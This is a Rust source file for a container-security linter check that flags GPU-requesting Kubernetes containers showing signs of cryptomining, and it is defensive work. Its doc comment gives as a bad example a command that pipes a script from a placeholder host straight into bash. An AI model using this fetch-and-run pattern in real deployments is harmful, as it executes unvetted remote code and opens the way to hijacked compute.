use ciel_core::Severity;
use ciel_mining::{Signal, SignalKind, Strength, Verdict};

use super::{evidence::explain, gpu::gpu_request};
use crate::{ContainerCx, declare_check};

declare_check! {
    /// ## What it does
    /// Finds containers that ask for GPUs and show a sign of mining which alone would be too little: the name of a miner, an
    /// algorithm, a pool's web address, a wallet, an image of a look-alike publisher, a program fetched and run, a hidden
    /// program. Where mining is certain, the other checks say so and this one is silent.
    ///
    /// ## Why is this bad?
    /// GPUs are what miners pay best for. Campaigns against Kubeflow (Microsoft, 2020 and 2021) ran one pod for the
    /// processors and one for the GPUs, the second with ethminer in a genuine TensorFlow image.
    ///
    /// ## Example
    /// ```yaml
    /// command: [sh, -c, "curl -s https://setup.example.net/run | bash"]
    /// resources:
    ///   limits:
    ///     nvidia.com/gpu: 4
    /// ```
    ///
    /// ## Use instead
    /// Images that you build, with the program inside.
    /// ```yaml
    /// image: registry.example.com/ml/train@sha256:…
    /// command: [train]
    /// ```
    ///
    /// ## Exceptions
    /// A GPU request by itself is never a finding here; `gpu-for-unknown-image` looks at whose image asks for it.
    ///
    /// ## References
    /// - <https://techcommunity.microsoft.com/t5/azure-security-center/new-large-scale-campaign-targets-kubeflow/ba-p/2425750>
    pub static GPU_WITH_MINING_SIGNS = {
        code: "MINE010",
        name: "gpu-with-mining-signs",
        severity: Medium,
        since: "0.1.0",
        summary: "container asks for GPUs and shows signs of mining",
        run: Container(gpu_with_mining_signs),
        frameworks: [mitre("T1496"), ms("MS-TA9039")],
        aliases: [],
    }
}

fn gpu_with_mining_signs(cx: &mut ContainerCx<'_>) {
    let container = cx.container;
    let Some(request) = gpu_request(container) else {
        return;
    };
    let evidence = cx.mining();
    if evidence.verdict() > Verdict::Clean {
        return;
    }
    let mut signals: Vec<Signal> = container
        .image()
        .map(|image| cx.analyses().image_signals(image).to_vec())
        .unwrap_or_default();
    if signals
        .iter()
        .any(|signal| signal.kind == SignalKind::MinerImage && signal.strength > Strength::Weak)
    {
        return;
    }
    let signs = evidence.commands.iter().chain(&evidence.environment);
    signals.extend(signs.map(|sign| sign.signal.clone()));
    signals.retain(counts);
    let Some(first) = signals.first() else {
        return;
    };
    let message = format!(
        "{} asks for GPUs and {}",
        container.display(),
        first.description
    );
    let report = cx
        .report(&GPU_WITH_MINING_SIGNS, request, message)
        .severity(Severity::Medium)
        .help("find out who made the workload and what it computes");
    explain(
        report,
        Verdict::Suspicious,
        &signals.iter().collect::<Vec<_>>(),
    );
}

fn counts(signal: &Signal) -> bool {
    match signal.kind {
        SignalKind::DownloadAndRun | SignalKind::HiddenExecution => {
            signal.strength > Strength::Weak
        }
        SignalKind::IndicatorList
        | SignalKind::HostTuning
        | SignalKind::Persistence
        | SignalKind::DefenceEvasion => false,
        _ => true,
    }
}
